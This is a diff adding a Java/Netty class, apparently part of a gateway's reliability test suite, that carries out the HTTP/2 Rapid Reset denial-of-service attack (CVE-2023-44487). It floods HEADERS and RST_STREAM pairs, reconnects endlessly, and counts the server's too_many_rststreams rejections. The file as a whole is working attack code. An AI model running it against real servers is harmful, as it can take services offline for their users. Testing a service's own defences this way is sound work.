@@ -1,0 +1,212 @@
+package io.infergate.infer.perf.reliability;
+
+import io.netty.bootstrap.Bootstrap;
+import io.netty.buffer.ByteBuf;
+import io.netty.channel.ChannelFuture;
+import io.netty.channel.ChannelHandlerContext;
+import io.netty.channel.ChannelInitializer;
+import io.netty.channel.EventLoopGroup;
+import io.netty.channel.nio.NioEventLoopGroup;
+import io.netty.channel.socket.nio.NioSocketChannel;
+import io.netty.handler.codec.ByteToMessageDecoder;
+import io.netty.handler.codec.http2.DefaultHttp2FrameReader;
+import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
+import io.netty.handler.codec.http2.DefaultHttp2Headers;
+import io.netty.handler.codec.http2.Http2CodecUtil;
+import io.netty.handler.codec.http2.Http2Error;
+import io.netty.handler.codec.http2.Http2FrameAdapter;
+import io.netty.handler.codec.http2.Http2Headers;
+import io.netty.handler.codec.http2.Http2Settings;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.LongAdder;
+
+/**
+ * An HTTP/2 Rapid Reset attacker (CVE-2023-44487) on Netty's frame writer and reader: the HEADERS
+ * of a gRPC call followed at once by RST_STREAM CANCEL, in batches, as fast as the socket takes
+ * them. When the server closes the connection (grpc-java: GOAWAY ENHANCE_YOUR_CALM {@code
+ * too_many_rststreams}) it counts that and connects again, so the attack never stops.
+ *
+ * <p>Paced by the socket, not by a rate: the next batch is written when the previous one has been
+ * handed to the kernel, so the attacker's own buffer stays small and it sends as fast as the
+ * gateway reads. Each connection gets its own frame writer, because HPACK state is per connection.
+ */
+final class RapidResetAttacker implements AutoCloseable {
+  /** HEADERS + RST_STREAM pairs per write: large enough to amortize a flush, small to pace. */
+  private static final int BATCH = 100;
+
+  private static final Http2Headers HEADERS =
+      new DefaultHttp2Headers()
+          .method("POST")
+          .scheme("http")
+          .authority("localhost")
+          .path("/inference.GRPCInferenceService/ModelInfer")
+          .add("content-type", "application/grpc")
+          .add("te", "trailers");
+
+  private final EventLoopGroup group = new NioEventLoopGroup(1);
+  private final String host;
+  private final int port;
+  private final LongAdder streamsSent = new LongAdder();
+  private final LongAdder connections = new LongAdder();
+  private final LongAdder closedByServer = new LongAdder();
+  private final LongAdder tooManyRstStreams = new LongAdder();
+  private volatile boolean stopped;
+
+  RapidResetAttacker(String host, int port) {
+    this.host = host;
+    this.port = port;
+  }
+
+  /** Starts attacking; returns at once. */
+  void start() {
+    connect();
+  }
+
+  private void connect() {
+    if (stopped) {
+      return;
+    }
+    connections.increment();
+    new Bootstrap()
+        .group(group)
+        .channel(NioSocketChannel.class)
+        .handler(
+            new ChannelInitializer<NioSocketChannel>() {
+              @Override
+              protected void initChannel(NioSocketChannel ch) {
+                ch.pipeline().addLast(new AttackHandler());
+              }
+            })
+        .connect(host, port)
+        .addListener(
+            (ChannelFuture f) -> {
+              if (!f.isSuccess() && !stopped) {
+                // Refused (say, the gateway is restarting): try again shortly, never in a spin.
+                group.schedule(this::connect, 10, TimeUnit.MILLISECONDS);
+              }
+            });
+  }
+
+  /** HEADERS+RST_STREAM pairs written so far (handed to the socket, not necessarily read). */
+  long streamsSent() {
+    return streamsSent.sum();
+  }
+
+  /** Connections opened so far. */
+  long connections() {
+    return connections.sum();
+  }
+
+  /** Connections the server closed while the attacker still wanted them. */
+  long closedByServer() {
+    return closedByServer.sum();
+  }
+
+  /** GOAWAY frames read with ENHANCE_YOUR_CALM and {@code too_many_rststreams}. */
+  long tooManyRstStreams() {
+    return tooManyRstStreams.sum();
+  }
+
+  @Override
+  public void close() {
+    stopped = true;
+    group.shutdownGracefully(0, 1, TimeUnit.SECONDS).syncUninterruptibly();
+  }
+
+  /** One connection: preface first, then batches until the server closes it. */
+  private final class AttackHandler extends ByteToMessageDecoder {
+    private final DefaultHttp2FrameWriter writer = new DefaultHttp2FrameWriter();
+    // Not validating: frames for streams already reset may still arrive.
+    private final DefaultHttp2FrameReader reader = new DefaultHttp2FrameReader(false);
+    private int nextStream = 1;
+
+    /**
+     * The preface goes out before anything is read: an acknowledgement of the server's SETTINGS
+     * written before it makes the server refuse the connection as PROTOCOL_ERROR, not count resets.
+     */
+    @Override
+    public void channelActive(ChannelHandlerContext ctx) throws Exception {
+      ctx.write(Http2CodecUtil.connectionPrefaceBuf());
+      writer.writeSettings(ctx, new Http2Settings(), ctx.newPromise());
+      ctx.flush();
+      super.channelActive(ctx);
+      writeBatch(ctx);
+    }
+
+    private void writeBatch(ChannelHandlerContext ctx) {
+      if (stopped || !ctx.channel().isActive()) {
+        return;
+      }
+      for (int i = 0; i < BATCH; i++) {
+        writer.writeHeaders(ctx, nextStream, HEADERS, 0, false, ctx.newPromise());
+        writer.writeRstStream(ctx, nextStream, Http2Error.CANCEL.code(), ctx.newPromise());
+        nextStream += 2;
+      }
+      streamsSent.add(BATCH);
+      ctx.writeAndFlush(ctx.alloc().buffer(0))
+          .addListener(
+              f -> {
+                if (f.isSuccess()) {
+                  writeBatch(ctx);
+                }
+              });
+    }
+
+    @Override
+    public void channelInactive(ChannelHandlerContext ctx) throws Exception {
+      super.channelInactive(ctx); // decodes what was read last, the GOAWAY among it
+      if (!stopped) {
+        closedByServer.increment();
+        connect();
+      }
+    }
+
+    /** A reset by the peer or a frame we cannot parse: the connection is gone; start another. */
+    @Override
+    public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
+      ctx.close();
+    }
+
+    @Override
+    protected void decode(ChannelHandlerContext ctx, ByteBuf in, List<Object> out)
+        throws Exception {
+      reader.readFrame(
+          ctx,
+          in,
+          new Http2FrameAdapter() {
+            @Override
+            public void onGoAwayRead(
+                ChannelHandlerContext ctx, int lastStreamId, long errorCode, ByteBuf debugData) {
+              if (errorCode == Http2Error.ENHANCE_YOUR_CALM.code()
+                  && debugData.toString(StandardCharsets.UTF_8).contains("too_many_rststreams")) {
+                tooManyRstStreams.increment();
+              }
+            }
+
+            @Override
+            public void onSettingsRead(ChannelHandlerContext ctx, Http2Settings settings) {
+              writer.writeSettingsAck(ctx, ctx.newPromise());
+              ctx.flush();
+            }
+
+            @Override
+            public void onPingRead(ChannelHandlerContext ctx, long data) {
+              writer.writePing(ctx, true, data, ctx.newPromise());
+              ctx.flush();
+            }
+
+            @Override
+            public int onDataRead(
+                ChannelHandlerContext ctx,
+                int streamId,
+                ByteBuf data,
+                int padding,
+                boolean endOfStream) {
+              return data.readableBytes() + padding;
+            }
+          });
+    }
+  }
+}
